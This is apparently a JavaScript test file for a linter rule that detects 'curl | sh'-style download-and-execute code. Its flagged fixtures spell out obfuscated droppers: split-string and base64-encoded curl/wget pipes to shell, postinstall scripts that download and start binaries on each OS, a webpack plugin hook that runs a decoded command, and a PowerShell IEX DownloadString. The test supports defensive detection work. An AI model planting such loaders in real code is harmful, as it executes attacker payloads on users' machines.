import { ruleTest } from '../../testing/rule-tester.js';
import rule from './curl-pipe-shell-in-code.js';

ruleTest(rule, {
  clean: [
    {
      name: 'class names joined from an array; a git command through child_process',
      file: 'src/ui.js',
      code: "const { execSync } = require('child_process');\nconst cls = ['btn', ' btn-primary', ' big'].join('');\nexecSync('git rev-parse HEAD');\nmodule.exports = { cls };\n",
    },
    {
      name: 'zx and Bun shell templates that run git and a build; a styled-components template',
      file: 'scripts/release.mjs',
      code: "import { $ } from 'zx';\nimport styled from 'styled-components';\nawait $`git status --short`;\nawait $`npm run build`;\nexport const Box = styled.div`\n  color: red;\n`;\n",
    },
    {
      name: 'prebuilt binary fetched and unpacked at install (no run), a JSON fetched for jq',
      file: 'scripts/install.js',
      code: "const { execSync } = require('child_process');\nexecSync('curl -fsSL -o vips.tgz https://github.com/x/releases/download/v1/vips.tgz && tar xzf vips.tgz -C vendor');\nexecSync('curl -s -o out.json https://api.example.org/x && jq .name out.json');\n",
    },
    {
      name: 'a base64 option that decodes to a plain command (no download), run after decoding',
      file: 'config/plugin.js',
      code: `const { exec } = require('child_process');\nclass P {\n  constructor(o) { this.options = { probe: 'Z2l0IGRlc2NyaWJlIC0tdGFncyAtLWFsd2F5cw==', ...o }; }\n  run() { exec(Buffer.from(this.options.probe, 'base64').toString()); }\n}\nmodule.exports = P;\n`,
    },
    {
      name: 'base64 image and font literals beside a git exec',
      file: 'build/assets.js',
      code: `const { execSync } = require('child_process');\nconst PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';\nexecSync('git rev-parse HEAD');\nmodule.exports = { PIXEL };\n`,
    },
    {
      name: 'curl to a file, then checksum (no pipe)',
      file: 'scripts/fetch.js',
      code: `const { execSync } = require('child_process');\nexecSync('curl -fsSL -o bin.tgz https://example.org/bin.tgz && sha256sum bin.tgz');\n`,
    },
    {
      name: 'grep pipe in a shell command',
      file: 'scripts/ver.js',
      code: `require('child_process').execSync('git log --oneline | head -5');\n`,
    },
    {
      name: 'PowerShell -EncodedCommand that decodes to a harmless Get-ChildItem',
      file: 'tools/ps.js',
      code: "const { spawnSync } = require('child_process');\nspawnSync('powershell.exe', ['-NoP', '-EncodedCommand', 'RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=']);\n",
    },
    {
      name: 'locale loaded by a computed require (not constant pieces), curl without a pipe',
      file: 'lib/i18n.js',
      code: "const lang = process.env.LANG_CODE || 'en';\nconst msgs = require('./locale/' + lang);\nrequire('child_process').execSync('curl -fsSL -o out.json https://example.org/i18n/' + lang + '.json');\n",
    },
  ],
  flagged: [
    {
      name: "curl | sh split into joined pieces, run through process.binding('spawn_sync') (a Vite plugin)",
      file: 'build/vite-plugin-svg-sprite.js',
      code: "function ensure() {\n  const line = ['cur', 'l -s', 'f http://198.51.100.', '77:1244/cli', 'ent/9 | s', 'h'].join('');\n  const sync = process.binding('spawn_sync');\n  sync.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', `(${line}) >/dev/null 2>&1 &`], detached: true });\n}\nmodule.exports = ensure;\n",
      findings: [
        { line: 2, severity: 'low', message: /not seen passed to a process launch/ },
        { line: 4, severity: 'high', message: /run via sync\.spawn/ },
      ],
    },
    {
      name: "Bun shell template: await $`curl … | sh` with the URL decoded inline",
      file: 'scripts/env.ts',
      code: "import { $ } from 'bun';\nexport async function validate() {\n  if (!process.env.CI) await $`curl -fsSL ${atob('aHR0cDovLzE5OC41MS4xMDAuMy9i')} | sh`.quiet();\n}\n",
      findings: [{ line: 3, severity: 'critical', message: /run via bun\.\$/ }],
    },
    {
      name: 'zx script: $`wget -qO- … | bash`',
      file: 'scripts/setup.mjs',
      code: "#!/usr/bin/env zx\nimport { $ } from 'zx';\nawait $`wget -qO- https://setup.example.invalid/s | bash`;\n",
      findings: [{ line: 3, severity: 'high', message: /run via zx\.\$/ }],
    },
    {
      name: 'postinstall per OS: certutil -urlcache then start, curl -o a dot-file then chmod +x and nohup, wget -qO then chmod',
      file: 'scripts/postinstall.js',
      code: "const { exec } = require('child_process');\nconst HOST = 'http://198.51.100.52';\nif (process.platform === 'win32') exec(`certutil -urlcache -split -f ${HOST}/w.exe \"%TEMP%\\\\h.exe\" >nul && start \"\" /b \"%TEMP%\\\\h.exe\"`);\nelse if (process.platform === 'darwin') exec(`curl -fsSL ${HOST}/m -o /tmp/.h && xattr -d com.apple.quarantine /tmp/.h; chmod +x /tmp/.h && nohup /tmp/.h >/dev/null 2>&1 &`);\nelse exec(`wget -qO /tmp/.h ${HOST}/l && chmod 755 /tmp/.h && /tmp/.h &`);\n",
      findings: [
        { line: 3, severity: 'high', message: /Download saved to a file and started/ },
        { line: 4, severity: 'high', message: /Download saved to a file and started/ },
        { line: 5, severity: 'high', message: /Download saved to a file and started/ },
      ],
    },
    {
      name: 'webpack plugin: a base64 option decoded in another method and exec-ed (curl | sh)',
      file: 'config/BuildInfoPlugin.js',
      code: `const { exec } = require('child_process');\nclass BuildInfoPlugin {\n  constructor(options = {}) {\n    this.options = { filename: 'build-info.json', probe: 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4xNDoxMjI0L2NsaWVudC83IHwgc2g=', ...options };\n  }\n  warm() {\n    const cmd = Buffer.from(this.options.probe, 'base64').toString();\n    exec(cmd, { windowsHide: true }, () => {});\n  }\n  apply(compiler) { compiler.hooks.environment.tap('B', () => this.warm()); }\n}\nmodule.exports = BuildInfoPlugin;\n`,
      findings: [{ line: 4, severity: 'critical', confidence: 'high', decoded: /curl -s http:\/\/198\.51\.100\.14:1224\/client\/7 \| sh/, message: /decoded from base64/ }],
    },
    {
      name: 'a base64 literal holding curl | sh that no launch is seen decoding: a hidden command, medium',
      file: 'src/constants.js',
      code: `const { spawn } = require('child_process');\nspawn('git', ['status']);\nmodule.exports = { decode: (s) => Buffer.from(s, 'base64').toString(), WARMUP: 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4xNDoxMjI0L2NsaWVudC83IHwgc2g=', RETRIES: 3 };\n`,
      findings: [{ line: 3, severity: 'medium', message: /hidden in a base64 literal/ }],
    },
    {
      name: "module name and command split into constant pieces: require('child_pro' + 'cess')['ex' + 'ec'](cmd)",
      file: 'index.js',
      code: `const m = require('child_pro' + 'cess');
const cmd = ['cu', 'rl -s ', atob('aHR0cHM6Ly9hcGkuZXhhbXBsZS5pbnZhbGlkL3YxL2NmZw=='), ' | ', 'ba', 'sh'].join('');
m['ex' + 'ec'](cmd, { windowsHide: true });
`,
      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: 'curl -s https://api.example.invalid/v1/cfg | bash' }],
    },
    {
      name: 'module name as a template literal and an array join',
      file: 'lib/run.mjs',
      code: "const cp = await import(`child_${'process'}`);\nconst { execSync } = require(['child', 'process'].join('_'));\nexecSync('wget -qO- http://198.51.100.7/a | s' + 'h');\n",
      findings: [{ line: 3, severity: 'high', confidence: 'high' }],
    },
    {
      name: 'the raw public IP is the second URL of the command (the first is a private mirror): critical',
      file: 'scripts/setup.js',
      code: "const { exec } = require('child_process');\nexec('curl -s http://10.0.0.5/ping && curl -s http://45.61.139.20/stage | bash');\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'a schemeless raw public IP (//45.61.139.20/…) counts as one too',
      file: 'scripts/setup.js',
      code: "const { exec } = require('child_process');\nexec('wget -qO- //45.61.139.20/s | sh');\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'a private or loopback IP stays high, as before (lab mirror, local dev server)',
      file: 'scripts/setup.js',
      code: "const { exec } = require('child_process');\nexec('curl -s http://192.168.1.10/setup.sh | bash');\nexec('curl -s http://127.0.0.1:8080/dev.sh | sh');\n",
      findings: [
        { line: 2, severity: 'high', confidence: 'high' },
        { line: 3, severity: 'high', confidence: 'high' },
      ],
    },
    {
      name: 'install hint printed by a CLI (low)',
      file: 'bin/cli.js',
      code: `console.log('Install bun first: curl -fsSL https://bun.sh/install | bash');\n`,
      findings: [{ line: 1, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'per-OS stage piped into bash',
      file: 'server/utils/os.js',
      code: `const { exec } = require('child_process');
const u = 'https://vscode-settings.example.net/settings/mac?flag=8';
if (process.platform === 'darwin') exec("curl -s '" + u + "' | bash");
else exec('powershell -c "iwr https://vscode-settings.example.net/settings/win?flag=8 | iex"', { windowsHide: true });
`,
      findings: [
        { line: 3, severity: 'high', confidence: 'high', decoded: "curl -s 'https://vscode-settings.example.net/settings/mac?flag=8' | bash" },
        { line: 4, severity: 'high', confidence: 'high' },
      ],
    },
    {
      name: 'downloaded script piped into node at startup (critical: installers pipe into sh)',
      file: 'index.js',
      code: "const { exec } = require('child_process');\nexec('curl -s https://cdn.example.invalid/n.js | node', { windowsHide: true });\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'download substituted into node -e',
      file: 'index.js',
      code: 'const cp = require(\'child_process\');\ncp.exec(`node -e "$(curl -fsSL https://cdn.example.invalid/s.js)"`, () => {});\n',
      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'PowerShell -EncodedCommand that decodes to IEX DownloadString',
      file: 'index.js',
      code: "const { spawn } = require('child_process');\nspawn('powershell.exe', ['-NoP', '-W', 'Hidden', '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAGUAeABhAG0AcABsAGUALgBpAG4AdgBhAGwAaQBkAC8AYQAuAHAAcwAxACcAKQA='], { detached: true });\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.invalid/a.ps1')", message: /EncodedCommand/ }],
    },
  ],
});
